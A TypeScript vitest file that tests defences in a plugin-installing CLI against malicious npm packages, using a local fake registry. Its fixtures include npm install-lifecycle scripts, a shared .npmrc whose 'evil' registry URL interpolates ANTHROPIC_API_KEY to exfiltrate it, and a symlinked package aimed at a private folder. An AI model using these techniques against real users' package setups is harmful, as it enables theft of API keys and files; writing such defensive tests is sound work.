import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { expect, onTestFinished, test, vi } from 'vitest';
import { runCommand } from '../command/run-command.ts';
import { CapturedOutput } from '../testing/output-streams.ts';
import { temporaryFolder } from '../testing/temporary-folder.ts';

const folder = temporaryFolder('package-plugins');

/** Adds the package `@acme/orders` as a plugin, with the given home folder and further variables. */
async function addPackage(home: string, variables: Readonly<Record<string, string>>) {
  const [stdout, stderr] = [new CapturedOutput(), new CapturedOutput()];
  const code = await runCommand({
    ...{ argv: ['plugins', 'add', '@acme/orders', '--yes'], cwd: home, stdout, stderr },
    env: { HOME: home, PATH: process.env['PATH'], ...variables },
    ...{ stdin: Readable.from([]), signal: new AbortController().signal },
  });
  return { code, stdout: stdout.text, stderr: stderr.text };
}

/** Starts a registry with one package, whose scripts leave a file behind. With `link`, the package is a link. */
async function startRegistry(ran: string, link?: string) {
  const source = join(folder(), 'package');
  const requests: string[] = [];
  mkdirSync(join(source, 'skills/orders'), { recursive: true });
  writeFileSync(join(source, 'skills/orders/SKILL.md'), 'Look at the order.');
  const names = ['preinstall', 'install', 'postinstall', 'prepare', 'prepack', 'postpack'];
  const scripts = Object.fromEntries(names.map((name) => [name, `touch ${ran}`]));
  const manifest = { name: '@acme/orders', version: '1.0.0', scripts };
  writeFileSync(join(source, 'package.json'), JSON.stringify(manifest));
  if (link !== undefined) {
    rmSync(source, { recursive: true });
    symlinkSync(link, source);
    onTestFinished(() => rmSync(source));
  }
  execFileSync('tar', ['-czf', join(folder(), 'package.tgz'), '-C', folder(), 'package']);
  const bytes = readFileSync(join(folder(), 'package.tgz'));
  const integrity = `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
  const server = createServer((request, response) => {
    requests.push(request.url ?? '');
    if (request.url?.endsWith('.tgz')) return void response.end(bytes);
    const { port } = server.address() as AddressInfo;
    const dist = { tarball: `http://127.0.0.1:${port}/package.tgz`, integrity };
    const versions = { '1.0.0': { ...manifest, dist } };
    response.end(
      JSON.stringify({ name: manifest.name, 'dist-tags': { latest: '1.0.0' }, versions }),
    );
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  onTestFinished(() => void server.close());
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/`, integrity, requests };
}

test('18.248: attack: a package of npm runs its scripts when it is added as a plugin', async () => {
  const ran = join(folder(), 'ran');
  const { url, integrity } = await startRegistry(ran);
  const home = join(folder(), 'home');
  mkdirSync(home);
  expect(await addPackage(home, { npm_config_registry: url })).toEqual({
    ...{ code: 0, stdout: 'Added the plugin acme-orders, with 1 file.\n', stderr: '' },
  });
  expect(existsSync(ran)).toBe(false);
  const stored = readFileSync(join(home, '.config/millrace/plugins.json'), 'utf8');
  expect(JSON.parse(stored)).toEqual({
    'acme-orders': { source: '@acme/orders', digest: expect.any(String), integrity },
  });
});

test('18.286: attack: settings of npm in a shared folder get the API keys and replace the package', async () => {
  const { url, requests } = await startRegistry(join(folder(), 'never'));
  const [home, shared] = [join(folder(), 'own'), join(folder(), 'shared')];
  for (const path of [home, shared]) mkdirSync(path);
  writeFileSync(join(shared, 'package.json'), '{}');
  const evil = (key: string) => `@acme:registry=${url}evil/\${${key}}/\n`;
  writeFileSync(join(shared, '.npmrc'), evil('ANTHROPIC_API_KEY'));
  // The user's own settings can name the tokens of npm, but no keys of providers.
  writeFileSync(
    join(home, '.npmrc'),
    `@acme:registry=${url}own/\${NPM_TOKEN}/\${ANTHROPIC_API_KEY}/\n`,
  );
  vi.stubEnv('TMPDIR', shared);
  onTestFinished(() => void vi.unstubAllEnvs());
  const keys = { ANTHROPIC_API_KEY: 'sk-ant-secret', NPM_TOKEN: 'npm-token' };
  expect((await addPackage(home, keys)).code).toBe(0);
  expect(requests[0]).toContain('/own/npm-token/');
  expect(requests.join()).not.toMatch(/evil|sk-ant-secret/);
  expect(readdirSync(join(home, '.config/millrace/plugins'))).toEqual(['acme-orders']);
});

test('18.298: attack: a package that is a link makes a private folder of the user a plugin', async () => {
  const home = join(folder(), 'linked');
  mkdirSync(join(home, 'private/skills/own'), { recursive: true });
  writeFileSync(join(home, 'private/skills/own/SKILL.md'), 'secret');
  const { url } = await startRegistry(join(folder(), 'never'), join(home, 'private'));
  const { code, stderr } = await addPackage(home, { npm_config_registry: url });
  expect([code, stderr]).toEqual([2, expect.stringContaining('Cannot fetch the package')]);
  expect(existsSync(join(home, '.config/millrace/plugins.json'))).toBe(false);
});
